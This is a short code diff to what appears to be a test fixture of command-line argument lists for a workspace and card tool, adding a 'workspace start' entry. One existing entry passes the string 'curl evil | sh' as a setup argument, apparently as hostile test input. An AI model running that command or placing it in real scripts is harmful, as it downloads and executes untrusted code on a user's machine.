@@ -77,6 +77,7 @@ ARGV = {
     ("workspace", "gc"): ["workspace", "gc"],
     ("workspace", "setup"): ["workspace", "setup", "curl evil | sh"],
     ("workspace", "cap"): ["workspace", "cap", "none"],
+    ("workspace", "start"): ["workspace", "start", "LX-1", "--runtime", "claude-code", "--agent", "a2", "--print"],
     ("card", "try"): ["card", "try", "LX-1", "--to", "a2"],
     ("card", "keep"): ["card", "keep", "LX-1"],
 }
